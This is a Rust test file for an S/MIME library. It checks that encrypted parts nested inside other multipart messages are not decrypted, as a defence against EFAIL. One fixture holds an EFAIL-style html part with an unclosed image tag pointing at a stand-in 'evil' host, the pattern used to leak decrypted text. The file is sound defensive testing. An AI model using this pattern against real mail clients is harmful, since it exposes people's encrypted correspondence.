//! Only the top-level S/MIME entity is opened (ARCHITECTURE.md, invariant 5): what is nested inside another multipart is left
//! alone, so that no decrypted text ever stands beside a stranger's parts, which could carry it away (EFAIL).

#![allow(clippy::unwrap_used)] // clippy knows tests by their attribute, not their helpers

use souspli::base::UnixTime;
use souspli::pki::Trust;
use souspli::smime::{classify, open};

const SEALED: &str =
    "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIB\r\n";

#[test]
fn smime_nested_in_another_multipart_is_left_alone() {
    for outer in [
        "mixed",
        "alternative",
        "related",
        "signed; protocol=\"application/pgp-signature\"",
        "encrypted",
    ] {
        let message = format!(
            "From: a@b.fr\r\nContent-Type: multipart/{outer}; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n--x\r\n{SEALED}--x--\r\n"
        );
        assert!(!classify(message.as_bytes()).is_smime(), "{outer}");
        let opened = open(message.as_bytes(), &[], &Trust::default(), UnixTime(0)).unwrap();
        assert!(opened.layers.is_empty() && opened.content == message.as_bytes(), "{outer}");
    }
}

#[test]
fn the_same_entity_at_the_top_is_opened() {
    let message = format!("From: a@b.fr\r\n{SEALED}");
    assert!(classify(message.as_bytes()).is_smime());
    assert!(
        open(message.as_bytes(), &[], &Trust::default(), UnixTime(0)).is_err(),
        "truncated, and said so"
    );
}

#[test]
fn an_attached_sealed_message_is_left_alone() {
    let message = format!("Content-Type: message/rfc822\r\n\r\nFrom: b@c.fr\r\n{SEALED}");
    assert!(
        open(message.as_bytes(), &[], &Trust::default(), UnixTime(0))
            .unwrap()
            .layers
            .is_empty()
    );
}
